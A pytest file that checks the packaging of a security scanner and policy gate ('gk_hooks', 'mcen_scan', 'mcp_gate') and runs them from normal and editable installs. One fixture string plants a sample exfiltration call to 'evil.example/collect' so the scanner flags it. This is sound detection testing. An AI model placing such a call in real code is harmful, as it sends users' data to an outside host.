"""What setup.cfg promises, and the other name of the scanner in a normal and in an editable install."""

from __future__ import annotations

import configparser
import json
import os
import shutil
import subprocess
import sys
import sysconfig
from importlib.util import find_spec
from pathlib import Path

import pytest
from scanning import ROOT

from gk_hooks import __version__

SETUP = configparser.ConfigParser()
SETUP.read(ROOT / "setup.cfg", encoding="utf-8")
ALIAS = "gk_hooks/aliases/mcen_scan"
BAD = 'import requests\nrequests.get("https://evil.example/collect")\n'


def test_every_package_is_listed() -> None:
    folders = {path.parent.relative_to(ROOT) for path in (ROOT / "gk_hooks").rglob("*.py")}
    found = {".".join(folder.parts) for folder in folders if folder.parts[1:2] != ("aliases",)}
    assert SETUP["options"]["packages"].split() == [*sorted(found), "mcen_scan", "mcp_gate"]


def test_only_two_dependencies() -> None:
    names = SETUP["options"]["install_requires"].split()
    assert names == ["GitPython", "unidiff>=0.7.5,<2"]
    assert SETUP["options"]["python_requires"] == ">=3.11"


def test_the_licence_and_the_changelog_are_there() -> None:
    assert "MIT License" in (ROOT / "LICENSE").read_text(encoding="utf-8")
    assert f"[{__version__}]" in (ROOT / "CHANGELOG.md").read_text(encoding="utf-8")


@pytest.fixture(scope="module", params=["normal", "editable"])
def installed(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The Python of an environment in which a copy of this project is installed."""
    if not find_spec("wheel") and not (find_spec("setuptools") and find_spec("setuptools.command.bdist_wheel")):
        pytest.skip("no build backend: pip install -e '.[test]'")
    folder = tmp_path_factory.mktemp(request.param)
    source = folder / "source"
    shutil.copytree(ROOT / "gk_hooks", source / "gk_hooks", ignore=shutil.ignore_patterns("__pycache__"))
    for name in ("setup.cfg", "pyproject.toml", "README.md", "LICENSE"):
        shutil.copy(ROOT / name, source)
    venv = folder / "venv"
    run(sys.executable, "-m", "venv", "--without-pip", str(venv), cwd=folder)
    python = venv / ("Scripts/python.exe" if os.name == "nt" else "bin/python")
    # the build backend comes from the environment that runs the tests
    site = run(python, "-c", "import sysconfig; print(sysconfig.get_path('purelib'))", cwd=folder).stdout.strip()
    (Path(site) / "backend.pth").write_text(sysconfig.get_path("purelib") + "\n", encoding="utf-8")
    how = ["-e"] if request.param == "editable" else []
    pip = [sys.executable, "-m", "pip", "-q", "--python", str(python), "install", "--ignore-installed", "--no-deps"]
    run(*pip, "--no-build-isolation", *how, str(source), cwd=folder)
    return python


def run(*command: str | Path, cwd: Path, check: bool = True) -> subprocess.CompletedProcess[str]:
    """Runs a command without what this process's environment says of Python."""
    clean = {name: value for name, value in os.environ.items() if not name.startswith("PYTHON")}
    done = subprocess.run(
        list(map(str, command)),
        cwd=cwd,
        env=clean,
        capture_output=True,
        encoding="utf-8",
        check=False,
        stdin=subprocess.DEVNULL,
    )
    assert not check or done.returncode == 0, done.stderr
    return done


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    """A folder with something to find, and a module that waits to be imported."""
    (tmp_path / "app.py").write_text(BAD, encoding="utf-8")
    for name in ("json", "ast", "git", "argparse", "gk_hooks"):
        (tmp_path / f"{name}.py").write_text("raise SystemExit('planted')\n", encoding="utf-8")
    return tmp_path


def test_the_alias_scans(installed: Path, tree: Path) -> None:
    done = run(installed, "-m", "mcen_scan", ".", cwd=tree, check=False)
    assert (done.returncode, done.stderr) == (1, "")
    assert "NET001" in done.stdout
    names = sorted(path.name for path in (tree / "mcen_audit").iterdir())
    assert names == [".gitignore", "manifest.json", "report.json", "report.md"]


def test_the_alias_knows_its_own_options(installed: Path, tree: Path) -> None:
    words = ("--profile", "mcen_strict", "--output-dir", "out", "--no-manifest", "--json", "a.json", "--md=a.md")
    done = run(installed, "-m", "mcen_scan", ".", *words, "--print-json", cwd=tree, check=False)
    assert (done.returncode, done.stderr) == (1, "")
    printed = json.loads(done.stdout)
    assert printed["tool"]["profile"] == "mcen_strict"
    assert printed == json.loads((tree / "a.json").read_text(encoding="utf-8"))
    assert (tree / "a.md").read_text(encoding="utf-8").startswith("#")
    assert sorted(path.name for path in (tree / "out").iterdir()) == [".gitignore", "report.json", "report.md"]


@pytest.mark.parametrize(
    ("words", "says"),
    (
        pytest.param(("egress", "--"), "command", id="a run gate without a command"),
        pytest.param(("missing",), "missing: cannot be scanned", id="a path that is not there"),
        pytest.param((".", "--json"), "--json", id="an option without its value"),
        pytest.param((".", "--wrong"), "--wrong", id="an unknown option"),
    ),
)
def test_a_mistake_is_one_line(installed: Path, tree: Path, words: tuple[str, ...], says: str) -> None:
    done = run(installed, "-m", "mcen_scan", *words, cwd=tree, check=False)
    assert (done.returncode, done.stdout) == (3, "")
    assert done.stderr.count("\n") == 1
    assert says in done.stderr


def test_the_tool_gate_has_another_name_too(installed: Path, tree: Path) -> None:
    (tree / "policy.json").write_text('{"rules": []}', encoding="utf-8")
    for command in ((installed.parent / "mcp-gate", "-v"), (installed, "-m", "mcp_gate")):
        done = run(*command, "check", "--policy", "policy.json", cwd=tree)
        assert done.stdout.startswith("OK: 'unnamed-policy' version 0, 0 rules, default deny")
        assert run(*command, "chek", cwd=tree, check=False).returncode == 3
        options = ("--policy", "policy.json", "--audit=audit.jsonl", "--fail", "closed")
        for dashes in ((), ("--",)):
            server = (installed, "-c", "print('not a message')")
            assert run(*command, "run", *options, *dashes, *server, cwd=tree).stdout == ""


def test_the_script_and_the_module_are_installed(installed: Path, tmp_path: Path) -> None:
    for command in ((installed.parent / "gk",), (installed, "-m", "gk_hooks")):
        assert run(*command, "--version", cwd=tmp_path).stdout == f"gk {__version__}\n"
    done = run(installed, "-c", "import gk_hooks; print(gk_hooks.__file__)", cwd=tmp_path)
    assert (Path(done.stdout.strip()).parent / "py.typed").exists()
